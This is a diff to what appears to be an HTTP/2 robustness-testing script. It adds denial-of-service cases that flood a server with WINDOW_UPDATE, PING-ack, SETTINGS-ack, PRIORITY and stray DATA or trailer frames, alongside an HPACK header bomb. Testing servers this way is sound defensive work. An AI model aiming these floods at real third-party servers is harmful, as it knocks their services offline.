@@ -67,11 +67,16 @@ class Flood:
         print(f"ended {last[-1]} after {self.sent} bytes" if last else f"broken after {self.sent} bytes", flush=True)
 
 
-def flood(piece, count=400_000, before=b"", **how):
+def flood(piece, count=400_000, before=b"", answers=False, **how):
+    """Floods a server that has got something else first and, where that is asked for, has answered and ended it."""
     client = Client(options.connect, seconds=120, **how)
     # Acknowledged later, the settings would part a header block.
     client.wait(lambda found: found.kind == SETTINGS and not found.flags & ACK)
     client.raw(before)
+    if before == EARLY:
+        client.wait(lambda found: found.kind == RST_STREAM)
+    elif answers:
+        client.wait(lambda found: found.kind == DATA and found.flags & END_STREAM)
     it = Flood(client)
     it.pour(piece, count)
     it.tell()
@@ -86,6 +91,8 @@ def request(number, *more, flags=END_HEADERS | END_STREAM, path="/", method="GET
 
 
 OPEN = request(0, flags=END_HEADERS, path="/hold", method="POST")
+# Answered by the edge, while its client has not ended it.
+EARLY = request(0, flags=END_HEADERS, path="/", method="TRACE")
 BOMB = literal("x-bomb", "b" * 3900, indexed=True)
 
 
@@ -98,6 +105,19 @@ def bomb(number):
     """A head of 16 KB that is decoded to 60 MB."""
     first = BOMB if number == 0 else b""
     return frame(HEADERS, END_HEADERS | END_STREAM, stream(number), block(get("/hold")) + first + b"\xbe" * 12_000)
+
+
+def refused():
+    """A stream beyond those that there may be, whose client goes on as if it were open."""
+    client = Client(options.connect, seconds=120, acknowledges=False)
+    client.read()
+    streams = client.settings_from_peer[MAX_CONCURRENT_STREAMS]
+    for number in range(streams + 1):
+        client.raw(request(number, flags=END_HEADERS, path="/hold", method="POST"))
+    client.wait(lambda found: found.kind == RST_STREAM)
+    it = Flood(client)
+    it.pour(frame(DATA, 0, stream(streams)), 400_000)
+    it.tell()
 
 
 def held_windows():
@@ -200,6 +220,19 @@ ABUSES = {
         frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), before=request(0, path="/big/1000000"),
         own_settings=settings((INITIAL_WINDOW_SIZE, 0))),
     "windows for nothing": lambda: flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
+    "large windows for nothing": lambda: flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1000))),
+    "windows of a stream that is over": lambda: flood(
+        frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1000)), before=request(0, path="/1"), answers=True),
+    "acknowledgements of PINGs that nobody has sent": lambda: flood(frame(PING, ACK, 0, bytes(8))),
+    "acknowledgements of SETTINGS": lambda: flood(frame(SETTINGS, ACK, 0)),
+    "PRIORITY of one stream": lambda: flood(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1))),
+    "empty DATA behind the end": lambda: flood(frame(DATA, 0, 1), before=request(0, path="/1"), answers=True),
+    "empty DATA behind a reset": lambda: flood(
+        frame(DATA, 0, 1), before=OPEN + frame(RST_STREAM, 0, 1, NOTHING)),
+    "empty DATA behind an early answer": lambda: flood(frame(DATA, 0, 1), before=EARLY),
+    "trailers behind an early answer": lambda: flood(
+        frame(HEADERS, END_HEADERS | END_STREAM, 1, literal("x", "y")), before=EARLY),
+    "DATA on a refused stream": refused,
     "answers that nobody reads": unread,
     "held windows": held_windows,
     "idle streams": idle_streams,
